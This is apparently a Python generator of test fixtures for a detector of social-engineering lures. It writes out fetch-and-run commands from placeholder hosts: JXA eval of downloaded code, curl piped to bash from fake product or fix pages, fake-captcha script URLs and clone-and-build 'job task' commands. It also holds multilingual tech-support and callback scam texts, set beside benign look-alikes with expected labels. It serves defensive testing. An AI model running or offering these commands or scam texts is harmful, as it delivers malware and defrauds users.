"""Writes tests/data/cases/b7lures.jsonl: lures a seventh blind set found missing, each written
here in our own variants (spelling, quoting, obfuscation, host, page, target) beside the
everyday texts that look like them and must stay quiet.

    python tests/data/cases/make_b7lures.py

Deterministic (every variant is a product of fixed lists). Hosts are reserved names (*.test,
*.invalid, *.example) and documentation addresses; phone numbers are fictional ranges; no text
is copied from a lure collection, an IOC file, another detector's fixtures or the blind sets.
Each line is {id, text, expect, technique, platform[, source], target}.

Techniques:

- `jxa-remote-eval`: macOS JavaScript for Automation (osascript -l JavaScript, ObjC.import)
  fetching a URL through Foundation (NSData/NSString ...ContentsOfURL, NSURLSession) and
  running what it got (eval, Function, doShellScript of it, NSAppleScript), or a downloaded
  .js file run by osascript -l JavaScript. Look-alikes: JXA that automates local apps, reads a
  local file, fetches a URL only to show it, runs a fixed shell command.
- `url-script-verify-tail`: the address of a script (.ps1, .hta, .vbs, .bat, .cmd, .msi, .js)
  followed by a fake check's words ("Confirm you are human", "I am not a robot") with or
  without a check mark, bare and in the Run box. Look-alikes: a bookmark list with notes, a
  script's address in a sentence, a link to a captcha's docs.
- `curl-lure-page` (and `-bare`): curl|bash, /bin/bash -c "$(curl …)", bash <(curl …),
  | sudo bash from a page dressed as a download or fix page for a product (the product's name
  in a host label of a download or help site, a borrowed company with the trouble), from a
  host imitating a forge's content host or a vendor, from a fix shop's host, or with a fake
  error in its comment. Look-alikes: vendors' own installers from their own pages, a
  tutorial quoting a vendor's installer (a warning at most), a company's product site.
- `app-zip-to-applications`: a zip or dmg downloaded, unpacked into /Applications and opened,
  from a page dressed as the product's. Look-alikes: the project's own release from its page.
- `stranger-clone-build`: git clone from a host that is no public forge, then npm/yarn/pnpm
  install or run, pip install, make, cargo run, go run (flagged), and from a job-task page or
  with a job-task pretext (blocked), also from a forge. Look-alikes: projects' own READMEs,
  tutorials cloning a GitHub project, an internal server.
- `support-scam-national` / `callback-national`: tech-support and callback texts with national
  phone formats of the 13 languages (French 0x xx xx xx xx in any grouping, German 0800/0180
  and area codes, +49 (0) forms, Spanish 9xx, Brazilian (xx) xxxxx-xxxx, Turkish 444, Russian
  8 (xxx), Chinese mobiles, Saudi 9200) and the pushes 'you did not place this order'.
  Look-alikes: real support mails and order mails with a number and no alarm.
"""

from __future__ import annotations

from pathlib import Path

import casefile  # beside this script (tests/data/cases/make_*.py)

OUT = Path(__file__).with_name("b7lures.jsonl")
book = casefile.Book("b7l")


def both(technique: str, text: str, platform: str, target: str, source: str | None) -> None:
    """A lure in its context (malicious), and bare: at least flagged."""
    book.add(technique, text, "malicious", platform, target, source)
    book.add(technique, text, "flagged", platform, "unknown")


def quiet(technique: str, text: str, platform: str, target: str, source: str | None) -> None:
    book.add(technique, text, "not_flagged", platform, target, source)


# ---- macOS: JavaScript for Automation fetching code and running it ---------------------------
JXA_PAGES = (
    "https://www.larkspur-bakery.example/menu",
    "https://fix.mac-helpdesk.test/jxa",
    None,
)
JXA_HOSTS = (
    "https://j.ledger-cradle.test/p",
    "https://198.51.100.23/s.js",
    "https://cdn.nimbus-dl.invalid/a",
)
JXA_LURES = (
    # NSData then NSString, evaluated
    'osascript -l JavaScript -e \'ObjC.import("Foundation");var d=$.NSData.dataWithContentsOfURL'
    '($.NSURL.URLWithString("{u}"));eval($.NSString.alloc.initWithDataEncoding(d,4).js)\'',
    # the evaluation written first, ObjC.unwrap, double quotes outside
    'osascript -l JavaScript -e "eval(ObjC.unwrap($.NSString.stringWithContentsOfURLEncodingError('
    "$.NSURL.URLWithString('{u}'),4,null)))\"",
    # Function instead of eval
    'osascript -l JavaScript -e \'ObjC.import("Cocoa"); var s = $.NSString.alloc.'
    'initWithContentsOfURL($.NSURL.URLWithString("{u}")); Function(ObjC.unwrap(s))()\'',
    # the fetched text handed to doShellScript
    "osascript -l JavaScript -e 'var a=Application.currentApplication();a.includeStandardAdditions"
    '=true;var t=$.NSString.stringWithContentsOfURL($.NSURL.URLWithString("{u}")).js;'
    "a.doShellScript(t)'",
    # NSAppleScript compiling what it fetched
    'osascript -l JavaScript -e \'ObjC.import("Foundation");var src=$.NSString.stringWithContents'
    'OfURL($.NSURL.URLWithString("{u}"));$.NSAppleScript.alloc.initWithSource(src).'
    "executeAndReturnError(null)'",
    # a heredoc
    "osascript -l JavaScript <<'EOF'\nObjC.import('Foundation')\nconst u = $.NSURL.URLWithString"
    "('{u}')\nconst d = $.NSData.dataWithContentsOfURL(u)\neval($.NSString.alloc."
    "initWithDataEncoding(d, $.NSUTF8StringEncoding).js)\nEOF",
    # a .js file downloaded and run by osascript
    "curl -fsSL {u} -o /tmp/.u.js && osascript -l JavaScript /tmp/.u.js",
)
for i, lure in enumerate(JXA_LURES):
    for j, page in enumerate(JXA_PAGES):
        if (i + j) % 2 and page is not None:
            continue
        text = lure.replace("{u}", JXA_HOSTS[(i + j) % len(JXA_HOSTS)])
        if page is None:
            book.add("jxa-remote-eval", text, "flagged", "macos", "unknown")
        else:
            both("jxa-remote-eval", text, "macos", "terminal", page)
JXA_QUIET = (
    "osascript -l JavaScript -e 'Application(\"Finder\").windows().map(w => w.name())'",
    "osascript -l JavaScript -e 'var app = Application(\"Music\"); app.playpause()'",
    'osascript -l JavaScript -e \'ObjC.import("Foundation"); $.NSString.stringWithContentsOfFile'
    '("/etc/hosts").js\'',
    # fetches a URL only to show it
    'osascript -l JavaScript -e \'ObjC.import("Foundation"); console.log($.NSString.'
    'stringWithContentsOfURL($.NSURL.URLWithString("https://api.github.com/zen")).js)\'',
    # a fixed shell command
    "osascript -l JavaScript -e 'var a=Application.currentApplication();a.includeStandardAdditions"
    '=true;a.doShellScript("say done")\'',
    'osascript -l JavaScript -e \'Application("System Events").processes.whose({frontmost: true})'
    "[0].name()'",
    "osascript -l JavaScript ~/Library/Scripts/tile-windows.js",
)
JXA_QUIET_PAGES = (
    "https://developer.apple.com/library/archive/releasenotes/InterapplicationCommunication/"
    "RN-JavaScriptForAutomation/Articles/OSX10-10.html",
    "https://github.com/JXA-Cookbook/JXA-Cookbook/wiki/Shell-and-CLI-Interactions",
)
for i, text in enumerate(JXA_QUIET):
    quiet("jxa-remote-eval", text, "macos", "terminal", JXA_QUIET_PAGES[i % 2])
    quiet("jxa-remote-eval", text, "macos", "unknown", None)


# ---- a script's address with a fake check's words after it ----------------------------------
TAIL_URLS = (
    "https://ps.check-gate.invalid/human.ps1",
    "https://203.0.113.77/v/verify.hta",
    "http://cdn.captcha-cloud.test/r.vbs",
    "https://files.mirror-node.test/run.cmd?id=7",
    "https://w.turnstile-go.invalid/setup.msi",
    "https://x.relay-verify.test/s.bat",
)
TAILS = (
    "  ✔ Confirm you are human - press Enter",
    " Confirm you are human and press Enter",
    "\tI am not a robot - reCAPTCHA Verification ID: 5521",
    " ✓ Verify you are human",
    "   Prove you're not a robot",
    " ✅ I'm not a robot",
    " Ich bin kein Roboter - Bestätigung 4471",
    " Je ne suis pas un robot",
)
TAIL_PAGES = ("https://www.quince-jam.example/", "https://check.human-gate.test/cf", None)
for i, tail in enumerate(TAILS):
    for j in (0, 3):
        url = TAIL_URLS[(i + j) % len(TAIL_URLS)]
        page = TAIL_PAGES[(i + j) % len(TAIL_PAGES)]
        if page is None:
            book.add("url-script-verify-tail", url + tail, "flagged", "windows", "run_dialog")
        else:
            both("url-script-verify-tail", url + tail, "windows", "run_dialog", page)
URL_QUIET = (
    "https://intranet.example.com/tools/setup.msi  installer for the lab machines",
    "https://docs.example.org/guide/captcha.html  notes on how our captcha works",
    "https://github.com/PowerShell/PowerShell/blob/master/tools/install-powershell.ps1 (see the"
    " docs)",
    "https://www.example.com/scripts/backup.ps1 - nightly backup, run by the scheduler",
    "https://learn.microsoft.com/en-us/windows/win32/msi/command-line-options",
    "https://example.org/verify.html Verify your e-mail address",
)
for text in URL_QUIET:
    quiet("url-script-verify-tail", text, "windows", "unknown", None)
    quiet("url-script-verify-tail", text, "windows", "other", "https://wiki.example.com/it/links")


# ---- curl | bash from a page dressed as a product's download or fix page ---------------------
# (page, script host, product comment or none): the product's name in a label of a download or
# help site, a borrowed company beside its trouble, a fix shop or a look-alike of a forge's host
CURL_PAGES = (
    "https://get-loomdesk.app-downloads.example/mac",
    "https://quillnote-desktop.mac-apps-hub.example/",
    "https://chatgpt-mac.ai-tools-download.example/",
    "https://brew-sh.pkg-get.example/install",
    "https://nvidia-driver-fix.gpu-support.example/linux",
    "https://steam-proton-fix.gamers-help.example/",
    "https://trezor-suite-update.wallet-support.example/",
    "https://teams-audio-repair.example.com/kb/42",
)
CURL_HOSTS = (
    "https://lm.mac-installer.invalid/install.sh",
    "https://dl.quill-pkg.test/i.sh",
    "https://cg.gpt-mac.test/setup",
    "https://raw.githubusercontent-cdn.test/Homebrew/install/HEAD/install.sh",
    "https://gpu.driver-patch.test/nv.sh",
    "https://pr.proton-patch.invalid/f.sh",
    "https://ts.wallet-recovery.invalid/s.sh",
    "https://au.cdn-node.test/a.sh",
)
CURL_FORMS = (
    "curl -fsSL {u} | bash",
    '/bin/bash -c "$(curl -fsSL {u})"',
    "bash <(curl -s {u})",
    "curl -s {u} | sudo bash",
    'sh -c "$(wget -qO- {u})"',
    "curl -sL {u} | zsh",
)
for i, page in enumerate(CURL_PAGES):
    for k in range(3):
        form = CURL_FORMS[(i + k * 2) % len(CURL_FORMS)]
        text = form.replace("{u}", CURL_HOSTS[i])
        book.add(
            "curl-lure-page", text, "malicious", "macos" if i % 2 else "linux", "terminal", page
        )
# the same scripts with a fake fix's comment or from a fix shop's host: a trait bare too
FIX_COMMENTS = (
    "  # Ledger Live: firmware sync error 0x6b0c",
    "  # fixes audio driver crash (error 0x80070005)",
    "  # wallet sync failed - run to repair",
    "  # Proton: vulkan not working fix",
    "  # status code -1073741515 fix",
)
for i, comment in enumerate(FIX_COMMENTS):
    text = CURL_FORMS[i % 3].replace("{u}", CURL_HOSTS[7 - i % 3]) + comment
    both("curl-lure-page", text, "macos", "terminal", "https://forum.gadget-talk.example/t/991")
for host in (
    "https://ll.ledger-fix.invalid/live.sh",
    "https://dl.driver-patch.test/g.sh",
    "https://x.camera-repair.test/c.sh",
    "https://w.wallet-recovery.invalid/r.sh",
):
    both(
        "curl-lure-page",
        "curl -fsSL " + host + " | bash",
        "linux",
        "terminal",
        "https://www.reddit.com/r/linuxquestions/comments/1abc/help/",
    )
# a look-alike of the forges' file hosts
for host in (
    "https://raw.githubusercontent-cdn.test/Homebrew/install/HEAD/install.sh",
    "https://raw-githubusercontent.net/nvm-sh/nvm/v0.40.1/install.sh",
    "https://githubusercontnet.com/ohmyzsh/ohmyzsh/master/tools/install.sh",
    "https://gitlab-raw.test/group/tool/-/raw/main/install.sh",
):
    both(
        "curl-lure-page",
        '/bin/bash -c "$(curl -fsSL ' + host + ')"',
        "macos",
        "terminal",
        "https://www.mac-power-tips.example/setup-dev",
    )
# an app downloaded, unpacked into /Applications and opened, from a page dressed as its own
APP_PAGES = (
    "https://figment-agent.design-plugins.example/",
    "https://get-pixelvault.mac-apps-hub.example/dl",
    "https://zoom-update-fix.example.net/mac",
)
APP_FORMS = (
    "curl -sL {u}/Agent.zip -o /tmp/a.zip && ditto -xk /tmp/a.zip /Applications && open"
    " /Applications/Agent.app",
    "cd /tmp && curl -fsSLO {u}/Vault.zip && unzip -q Vault.zip -d /Applications && open -a"
    " /Applications/Vault.app",
    "curl -L -o ~/Downloads/m.dmg {u}/m.dmg && hdiutil attach ~/Downloads/m.dmg && cp -R"
    " /Volumes/M/M.app /Applications && open /Applications/M.app",
)
for i, page in enumerate(APP_PAGES):
    for j, form in enumerate(APP_FORMS):
        if (i + j) % 3 == 2:
            continue
        text = form.replace(
            "{u}",
            (
                "https://fa.agent-zip.invalid",
                "https://cdn.vault-dl.test",
                "https://m.zoom-fix.test",
            )[i],
        )
        book.add("app-zip-to-applications", text, "malicious", "macos", "terminal", page)
# look-alikes: vendors' own installers from their own pages, a tutorial quoting a vendor's
# installer (a warning at most), a company's product site, a download site quoting the
# product's own host
CURL_QUIET = (
    (
        'bash -c "$(curl -fsSL https://raw.githubusercontent.com/Homebrew/install/HEAD/install.sh)"',
        "https://brew.sh/",
    ),
    (
        "curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh -s -- -y",
        "https://rustup.rs/",
    ),
    (
        "curl -o- https://raw.githubusercontent.com/nvm-sh/nvm/v0.40.3/install.sh | bash",
        "https://github.com/nvm-sh/nvm",
    ),
    ("curl -fsSL https://ollama.com/install.sh | bash", "https://ollama.com/download/linux"),
    (
        "curl -fsSL https://ollama.com/install.sh | bash",
        "https://ollama-setup.app-downloads.example/linux",
    ),
    (
        "curl -sSLf https://scala-cli.virtuslab.org/get | sh",
        "https://scala-cli.virtuslab.org/install",
    ),
    (
        "curl -fsSL https://loomdesk.dev/install.sh | bash  # fixes the 0x12 sync error on M1",
        "https://loomdesk.dev/docs/troubleshooting",
    ),
    ("curl -fsSL https://get.wallet-cli.dev | sh", "https://docs.wallet-cli.dev/install"),
    (
        "curl -LsSf https://astral.sh/uv/0.5.1/install.sh | sh",
        "https://uv-python.tutorials-hub.example/getting-started",
    ),
)
for text, page in CURL_QUIET:
    quiet("curl-lure-page", text, "macos", "terminal", page)
# a tutorial about the product quoting its own installer vouches for it (provenance); a
# download site's page for the product quoting the product's own host is a warning, never a
# block
for text, page in (
    (
        "curl -fsSL https://get.loomdesk.dev/install.sh | bash",
        "https://www.linuxize.example/post/how-to-install-loomdesk",
    ),
    (
        "bash <(curl -sL https://install.quillnote.io/i.sh)",
        "https://dev.to/someone/setting-up-quillnote-on-ubuntu-3kd1",
    ),
):
    quiet("curl-lure-page", text, "linux", "terminal", page)
for text, page in (
    (
        "curl -fsSL https://get.loomdesk.dev/install.sh | bash",
        "https://loomdesk.app-downloads.example/mac",
    ),
    ("curl -fsSL https://quill.io/i.sh | sh", "https://quillnote.mac-apps-hub.example/download"),
    (
        "curl -fsSL https://raw.githubusercontent.com/loomdesk/loomdesk/main/install.sh | bash",
        "https://loomdesk.tutorials-hub.example/setup",
    ),
):
    book.add("curl-lure-page", text, "suspicious", "macos", "terminal", page)
# ...and from another account on the forge, it is the page dressed up as the product's
book.add(
    "curl-lure-page",
    "curl -fsSL https://raw.githubusercontent.com/qz-tools/setup/main/install.sh | bash",
    "malicious",
    "macos",
    "terminal",
    "https://loomdesk.tutorials-hub.example/setup",
)


# ---- a stranger's repository cloned, then built or run (fake job tasks) ----------------------
JOB_PAGES = (
    "https://hire.chainworks-devjobs.example/assignment/12",
    "https://careers.ledgerly.example/take-home/frontend",
    "https://www.talent-bridge.example/interview/tech-round/551",
    "https://jobs.nimbus-labs.example/candidates/task?id=88",
)
CLONES = (
    "https://git.task-drop.invalid/dex-frontend",
    "https://code.quant-hire.test/assess/backend.git",
    "https://github.com/nimbuslabs-hr/assessment-7",
    "https://bitbucket.org/ledgerly-team/wallet-ui.git",
    "https://gitlab.com/tb-hiring/api-task",
)
STEPS = (
    "cd {d} && npm install && npm run dev",
    "cd {d} && yarn && yarn start",
    "cd {d} && pnpm i && pnpm dev",
    "cd {d} && pip install -e . && python main.py",
    "cd {d} && make && ./run.sh",
    "cd {d} && cargo run --release",
    "cd {d} && go run .",
    "cd {d}\nnpm ci\nnode server.js",
    "cd {d}; docker compose up -d",
)
for i, url in enumerate(CLONES):
    d = url.rstrip("/").rsplit("/", 1)[1].removesuffix(".git")
    for k in range(3):
        step = STEPS[(i * 2 + k) % len(STEPS)].replace("{d}", d)
        text = f"git clone {url} && {step}" if "\n" not in step else f"git clone {url}\n{step}"
        page = JOB_PAGES[(i + k) % len(JOB_PAGES)]
        book.add("stranger-clone-build", text, "malicious", "linux", "terminal", page)
    if "github" not in url and "gitlab" not in url and "bitbucket" not in url:
        # a server that is no public forge: a note bare (a team's own server builds the same
        # way), a warning from any stranger's page
        text = f"git clone {url} && " + STEPS[i % len(STEPS)].replace("{d}", d)
        book.add("stranger-clone-build", text, "info", "linux", "unknown")
        book.add(
            "stranger-clone-build",
            text,
            "flagged",
            "macos",
            "terminal",
            "https://forum.devs-lounge.example/t/4410",
        )
# the framing in the text itself, from a forge too: flagged bare, blocked from a stranger's page
PRETEXTS = (
    "# take-home assignment: please run it before our call\n",
    "# Technical interview - step 1 (required before the call)\n",
    "# Recruiter: build and start the project so we can review it together\n",
    "# coding test for the candidate\n",
)
for i, pre in enumerate(PRETEXTS):
    url = CLONES[2 + i % 3]
    d = url.rstrip("/").rsplit("/", 1)[1].removesuffix(".git")
    text = pre + f"git clone {url} && " + STEPS[i].replace("{d}", d)
    both("stranger-clone-build", text, "linux", "terminal", "https://mail.quick-inbox.example/m/77")
CLONE_QUIET = (
    (
        "git clone https://github.com/fernlab/fernctl && cd fernctl && npm install && npm start",
        "https://github.com/fernlab/fernctl",
    ),
    (
        "git clone https://github.com/fernlab/fernctl.git\ncd fernctl\nmake && sudo make install",
        "https://github.com/fernlab/fernctl#building-from-source",
    ),
    (
        "git clone https://github.com/fernlab/fernctl && cd fernctl && pip install -e .",
        "https://dev.to/someone/contributing-to-fernctl-4kd2",
    ),
    (
        "git clone https://git.fernctl.dev/fernctl && cd fernctl && make",
        "https://fernctl.dev/docs/build",
    ),
    (
        "git clone https://git.corp.internal/platform/deploy-tools && cd deploy-tools && make",
        "https://wiki.corp.internal/onboarding",
    ),
    (
        "git clone https://github.com/jwasham/coding-interview-university && cd "
        "coding-interview-university && npm install",
        "https://github.com/jwasham/coding-interview-university",
    ),
    (
        "git clone https://github.com/acme-hiring/take-home-readme",
        "https://careers.acme.example/jobs/42",
    ),
    ("npm install -g @acme/cli && acme login", "https://careers.acme.example/jobs/42"),
    (
        "git clone https://gitlab.gnome.org/GNOME/gnome-shell.git && cd gnome-shell && meson setup build",
        "https://wiki.gnome.org/Newcomers",
    ),
)
for text, page in CLONE_QUIET:
    quiet("stranger-clone-build", text, "linux", "terminal", page)
    quiet("stranger-clone-build", text, "linux", "unknown", None)


# ---- tech-support and callback texts with national phone formats -----------------------------
SCAM_PAGES = ("https://alerte.securite-pc.example/", None)
SUPPORT = (
    (
        "fr",
        "Votre ordinateur a été bloqué. Des logiciels espions ont été détectés.\nAppelez le "
        "support technique au {p} (appel gratuit) avant de fermer cette page.",
        ("09 75 555 142", "0 805 12 34 56", "01.86.76.55.42", "+33 (0)9 75 55 51 42", "0975555142"),
    ),
    (
        "de",
        "Ihr Computer wurde gesperrt. Trojaner erkannt!\nRufen Sie sofort den Support an: {p}",
        ("0800 555 7731", "0180 5 555 773", "030 5557731", "+49 (0) 800 5557731", "0800/5557731"),
    ),
    (
        "es",
        "Su ordenador ha sido bloqueado por virus. Llame al soporte técnico: {p}",
        ("900 123 456", "912 34 56 78", "+34 912 345 678"),
    ),
    (
        "it",
        "Il tuo computer è stato bloccato per un virus. Chiama subito il supporto al {p}",
        ("800 123 456", "02 1234 5678", "+39 02 1234 5678"),
    ),
    (
        "pt",
        "Seu computador foi bloqueado por um vírus. Ligue para o suporte: {p}",
        ("(11) 91234-5678", "0800 123 4567", "+55 11 91234-5678"),
    ),
    (
        "nl",
        "Uw computer is geblokkeerd wegens een virus. Bel direct de helpdesk: {p}",
        ("0800-1234", "020-1234567", "088 123 4567"),
    ),
    (
        "pl",
        "Twój komputer został zablokowany. Wykryto wirusa. Zadzwoń: {p}",
        ("22 123 45 67", "800 123 456", "+48 22 123 45 67"),
    ),
    (
        "tr",
        "Bilgisayarınız engellendi, virüs tespit edildi. Hemen arayın: {p}",
        ("444 1 234", "0850 123 45 67", "0212 123 45 67"),
    ),
    (
        "ru",
        "Ваш компьютер заблокирован, обнаружен вирус. Позвоните: {p}",
        ("8 (495) 123-45-67", "8 800 123-45-67"),
    ),
    (
        "ja",
        "お使いのコンピューターはウイルスに感染しロックされました。サポートにお電話ください: {p}",
        ("0120-123-456", "03-1234-5678", "050-1234-5678"),
    ),
    (
        "zh",
        "您的电脑已被锁定，检测到病毒。请立即拨打技术支持电话 {p}",
        ("400-123-4567", "138 1234 5678", "010-12345678"),
    ),
    (
        "ar",
        "تم حظر جهاز الكمبيوتر الخاص بك بسبب فيروس. اتصل بالدعم الفني على {p}",
        ("9200 12345", "800 123 4567"),
    ),
    (
        "en",
        "Your computer has been locked due to a virus. Call support on {p} now.",
        ("0800 123 4567", "020 7946 0018"),
    ),
)
for _lang, text, phones in SUPPORT:
    for j, phone in enumerate(phones):
        page = SCAM_PAGES[j % 2]
        book.add(
            "support-scam-national", text.replace("{p}", phone), "flagged", "any", "unknown", page
        )
CALLBACKS = (
    "Amazon: Ihre Bestellung #302-5591 (Laptop, 1.299,00 €) wurde bestätigt.\nSie haben diese "
    "Bestellung nicht aufgegeben? Rufen Sie sofort unseren Kundenservice an: {p}",
    "Amazon: Ihre Bestellung über 849,00 € wurde bestätigt. Nicht Sie? Rufen Sie uns an: {p}",
    "Amazon : votre commande de 1 299,00 € est confirmée. Vous n'avez pas passé cette commande ? "
    "Appelez le {p}",
    "PayPal : paiement de 499,99 € confirmé. Ce n'était pas vous ? Appelez immédiatement le {p}",
    "Amazon: su pedido de 899,00 € ha sido confirmado. ¿No realizó este pedido? Llame al {p}",
    "Amazon: il tuo ordine di 899,00 € è stato confermato. Non hai effettuato questo ordine? "
    "Chiama il {p}",
    "Amazon: seu pedido de R$ 2.499,00 foi confirmado. Não fez este pedido? Ligue para {p}",
    "Amazon: uw bestelling van € 899,00 is bevestigd. Niet geplaatst? Bel direct {p}",
    "Amazon: Siparişiniz onaylandı (12.499,00 TL). Bu siparişi siz vermediyseniz hemen arayın: {p}",
)
CALLBACK_PHONES = (
    "0800 555 7731",
    "0180 5 555 773",
    "09 75 555 142",
    "+33 9 75 55 51 42",
    "912 34 56 78",
    "02 1234 5678",
    "(11) 3003-4070",
    "0800-1234",
    "0850 123 45 67",
)
for i, text in enumerate(CALLBACKS):
    book.add(
        "callback-national",
        text.replace("{p}", CALLBACK_PHONES[i]),
        "flagged",
        "any",
        "unknown",
        "https://postfach.mail-view.example/n/5" if i % 2 else None,
    )
SUPPORT_QUIET = (
    "Bei Fragen zu Ihrer Bestellung #302-5591 erreichen Sie unseren Kundenservice unter 0800 555 "
    "7731 (Mo-Fr 8-18 Uhr).",
    "Ihre Bestellung wurde versandt. Rückfragen bitte unter 030 5557731 oder per E-Mail.",
    "Pour toute question sur votre commande n° 4412, appelez le 09 75 55 51 42 du lundi au "
    "vendredi.",
    "Rendez-vous confirmé le 01.02.2026 à 10h30. Pour l'annuler, appelez le 01 86 76 55 42.",
    "Su pedido ha sido enviado. Atención al cliente: 912 34 56 78.",
    "Il tuo ordine è stato spedito. Per assistenza chiama il numero verde 800 123 456.",
    "Seu pedido foi enviado. Central de atendimento: (11) 3003-4070.",
    "订单已发货，如有问题请拨打客服电话 400-123-4567。",
    "ご注文ありがとうございます。お問い合わせは 0120-123-456 までお電話ください。",
    "Siparişiniz kargoya verildi. Müşteri hizmetleri: 444 1 234.",
    "Ваш заказ отправлен. Справочная служба: 8 (495) 123-45-67.",
    "Your order has shipped. Questions? Call us on 0800 123 4567, Monday to Friday.",
    "Termin am 01.02.2026 12:30, Raum 0.12.3.45, Durchwahl 030 5557731.",
)
for text in SUPPORT_QUIET:
    quiet("support-scam-national", text, "any", "unknown", None)
    quiet("support-scam-national", text, "any", "other", "https://mail.example.com/inbox/77")

CASES = book.cases


def main() -> None:
    casefile.write(OUT, CASES)


if __name__ == "__main__":
    main()
